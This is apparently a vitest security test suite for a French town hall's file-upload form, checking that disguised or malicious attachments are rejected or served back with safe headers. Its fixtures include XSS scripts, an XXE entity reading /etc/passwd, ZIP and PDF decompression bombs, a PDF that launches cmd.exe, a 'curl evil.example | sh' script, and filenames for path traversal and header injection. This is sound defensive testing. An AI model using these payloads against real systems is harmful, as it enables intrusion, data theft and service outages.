import { deflateRawSync, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Answer } from '#tests/support/test-counter.ts';
import { hidden } from './ask.ts';
import { makeWorld, png, questionAnswers, vernon, type World } from './world.ts';

let world: World;
beforeAll(async () => {
  world = await makeWorld();
}, 180_000);
afterAll(() => world?.close());

const start = '/vernon/demarches/question-a-la-mairie/commencer';
const latin = (text: string) => Buffer.from(text, 'latin1');

const pdf = latin('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const page = latin('<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>');
const script = latin('<script>alert(document.domain)</script>');

/** A ZIP of one deflated file, which says the size that it is told to say. */
function zip(name: string, content: Buffer, said = content.length): Buffer {
  const packed = deflateRawSync(content);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(said, 18);
  common.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([latin('PK\x03\x04'), common, latin(name), packed]);
  const central = Buffer.concat([latin('PK\x01\x02'), Buffer.from([20, 0]), common, Buffer.alloc(14), latin(name)]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** The smallest PNG, with another size in its header. */
function pngOf(width: number, height: number): Buffer {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

const swollen = (megabytes: number) => {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20));
  return Buffer.concat([
    latin(`%PDF-1.5\n4 0 obj\n<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
    packed,
    latin('\nendstream\nendobj\n%%EOF'),
  ]);
};

async function send(name: string, content: Buffer): Promise<{ answer: Answer; files: string[]; follow: string }> {
  const visitor = await world.browser(world.people.visitor);
  const form = await visitor.get(start);
  const answer = await visitor.postFiles(
    start,
    { ...(questionAnswers as Record<string, string>), _idempotency: hidden(form.body, '_idempotency') },
    [{ field: 'attachments', name, content, type: 'application/pdf' }],
  );
  const follow = (answer.location ?? '').replace('/recu', '');
  const body = answer.status === 303 ? (await visitor.get(follow)).body : answer.body;
  return {
    answer,
    follow,
    files: [...new Set([...body.matchAll(/\/documents\/[0-9a-f-]{36}/g)].map(([path]) => path))],
  };
}

const kept = () =>
  world.counter.platform.database.transaction(
    [vernon],
    async (tx) => (await tx.selectFrom('documents').select('id').execute()).length,
  );

describe('refused at the field, in words, and nothing kept', () => {
  test.each<[string, string, Buffer, RegExp]>([
    ['a page of HTML named .pdf', 'facture.pdf', page, /page web/],
    ['a page of HTML that a PDF follows', 'facture.pdf', Buffer.concat([page, pdf]), /page web/],
    [
      'a page after blanks and a byte order mark',
      'facture.pdf',
      Buffer.concat([latin('\xef\xbb\xbf \n\t'), page]),
      /page web/,
    ],
    ['a page in UTF-16', 'facture.pdf', Buffer.from(`\ufeff${page}`, 'utf16le'), /page web/],
    [
      'an SVG with a script',
      'plan.svg',
      latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      /page web/,
    ],
    [
      'an SVG with an entity',
      'plan.svg',
      latin(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
      ),
      /page web|type accepté/,
    ],
    ['an SVG named .png', 'photo.png', latin('<svg onload="alert(1)"/>'), /page web/],
    ['a GIF that is a script', 'photo.gif', latin('GIF89a/*<script>*/=1;alert(document.domain)//'), /type accepté/],
    ['a ZIP that a PDF follows', 'facture.pdf', Buffer.concat([zip('a.txt', latin('x')), pdf]), /archive/],
    ['a ZIP bomb', 'photos.zip', zip('a', Buffer.alloc(30_000_000)), /archive/],
    ['a ZIP that lies of its size', 'photos.zip', zip('a', Buffer.alloc(5_000_000), 10), /archive/],
    [
      'an office file that is a bomb',
      'lettre.docx',
      zip('word/document.xml', Buffer.alloc(30_000_000)),
      /archive|type accepté/,
    ],
    [
      'a spreadsheet that is a bomb',
      'liste.ods',
      zip('mimetype', latin('application/vnd.oasis.opendocument.spreadsheet')),
      /archive|type accepté/,
    ],
    ['a PDF bomb', 'facture.pdf', swollen(17), /démesuré/],
    [
      'a PDF that starts a program',
      'facture.pdf',
      latin('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF'),
      /programme/,
    ],
    ['a PNG cut before its image', 'photo.png', png.subarray(0, 30), /abîmée/],
    ['a JAR', 'facture.pdf', zip('META-INF/MANIFEST.MF', latin('Main-Class: X')), /archive|programme/],
    ['a program', 'photo.jpg', Buffer.concat([latin('MZ'), Buffer.alloc(300, 0x90)]), /programme|type accepté/],
    ['a shell script', 'facture.pdf', latin('#!/bin/sh\ncurl evil.example | sh\n'), /programme/],
    [
      'an e-mail',
      'message.eml',
      latin('From: a@b.fr\r\nContent-Type: text/html\r\n\r\n<script>1</script>'),
      /type accepté/,
    ],
    [
      'a shortcut of Windows',
      'facture.pdf.lnk',
      Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(90)]),
      /programme|type accepté/,
    ],
  ])('%s', async (_what, name, content, says) => {
    const before = await kept();
    const { answer } = await send(name, content);
    expect(answer.status).toBe(422);
    expect(/govuk-error-summary[\s\S]*?<\/div><\/div>/.exec(answer.body)?.[0]).toMatch(says);
    expect(answer.body).toContain('À quelle heure ouvre la mairie');
    expect(await kept()).toBe(before);
  });
});

/** Whatever it holds, nothing in these headers lets it act as a page of this site. */
function expectHarmless(answer: Answer, type: RegExp, where: string): void {
  expect(answer.status, where).toBe(200);
  expect(answer.headers['content-type'], where).toMatch(type);
  expect(answer.headers['x-content-type-options'], where).toBe('nosniff');
  expect(answer.headers['content-disposition'], where).toMatch(
    /^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[\w%!.~'()*-]+$/,
  );
  expect(answer.headers['content-security-policy'], where).toMatch(/^sandbox; default-src 'none'/);
  expect(answer.headers['x-frame-options'], where).toBe('DENY');
  expect(answer.headers['cache-control'], where).toContain('no-store');
}

describe('taken, and harmless as it is given back', () => {
  test.each<[string, string, Buffer, RegExp, RegExp]>([
    [
      'a PDF that is a page of HTML too',
      'facture.pdf',
      Buffer.concat([pdf, page]),
      /^application\/pdf$/,
      /^facture\.pdf$/,
    ],
    [
      'a PDF that is a ZIP too',
      'facture.pdf',
      Buffer.concat([pdf, zip('a.txt', latin('x'))]),
      /^application\/pdf$/,
      /^facture\.pdf$/,
    ],
    ['a PDF that is named .html', 'facture.html', pdf, /^application\/pdf$/, /\.pdf$/],
    [
      'a PDF with a script of its own',
      'formulaire.pdf',
      latin('%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n%%EOF'),
      /^application\/pdf$/,
      /\.pdf$/,
    ],
    ['a PNG with a script after its end', 'photo.png', Buffer.concat([png, script]), /^image\/png$/, /^photo\.png$/],
    [
      'a PNG that says it is as wide as a country',
      'photo.png',
      pngOf(0x7fffffff, 0x7fffffff),
      /^image\/png$/,
      /^photo\.png$/,
    ],
    ['a PNG named .html', 'photo.html', png, /^image\/png$/, /\.png$/],
    ['a PNG named .svg', 'photo.svg', png, /^image\/png$/, /\.png$/],
    ['a name that climbs', '../../../../etc/passwd', png, /^image\/png$/, /^passwd\.png$/],
    ['a name that climbs in Windows', '..\\..\\boot.png', png, /^image\/png$/, /^boot\.png$/],
    ['a name with a drive', 'C:\\fakepath\\photo.png', png, /^image\/png$/, /^photo\.png$/],
    ['a name with control characters', 'pho\u0007to\u0001\u007f.png', png, /^image\/png$/, /^photo\.png$/],
    ['a name that adds a header', 'a%0d%0aSet-Cookie: b=c.png', png, /^image\/png$/, /^[^\r\n]+\.png$/],
    ['a name that reads backwards', 'facture\u202egnp.exe', png, /^image\/png$/, /^[^\u202a-\u202e]+\.png$/],
    ['a name of nothing to be seen', '\u200b\u2066\ufeff.png', png, /^image\/png$/, /\.png$/],
    ['a name of an element', '<img src=x onerror=alert(1)>.png', png, /^image\/png$/, /\.png$/],
    ['a name with a quote', 'a";filename="b.exe.png', png, /^image\/png$/, /\.png$/],
    ['a name of a device', 'CON.png', png, /^image\/png$/, /\.png$/],
    ['a name as long as a book', `${'n'.repeat(3000)}.png`, png, /^image\/png$/, /^n{1,250}\.png$/],
    ['two names', 'facture.pdf.exe.png', png, /^image\/png$/, /\.png$/],
  ])('%s', async (what, name, content, type, shown) => {
    const { answer, files, follow } = await send(name, content);
    expect(answer.status, what).toBe(303);
    expect(files).toHaveLength(1);
    const visitor = await world.browser(world.people.visitor);
    const agent = await world.browser(world.people.agent);
    const file = await visitor.get(`${follow}${files[0]}`);
    expectHarmless(file, type, what);
    const told = /filename\*=UTF-8''(.*)$/.exec(String(file.headers['content-disposition']))?.[1] ?? '';
    expect(decodeURIComponent(told)).toMatch(shown);
    expect(decodeURIComponent(told)).not.toMatch(/[\p{Cc}\p{Bidi_Control}/\\]/u);
    expect(file.headers['set-cookie'], what).toBeUndefined();
    // What hid behind an image is gone; what a photo tells beside its image is not kept.
    if (type.source.includes('png')) expect(file.raw.includes(script)).toBe(false);
    const desk = `/agents${follow.replace('/vernon/dossiers/', '/dossiers/vernon/')}`;
    const seen = await agent.get(`${desk}${files[0]?.replace('/documents/', '/pieces/')}`);
    expect(seen.headers['x-content-type-options']).toBe('nosniff');
    expect(seen.headers['content-type']).toMatch(type);
    for (const body of [(await visitor.get(follow)).body, (await agent.get(desk)).body])
      expect(body).not.toMatch(/<img src=x onerror|[\u202a-\u202e]/);
  });
});
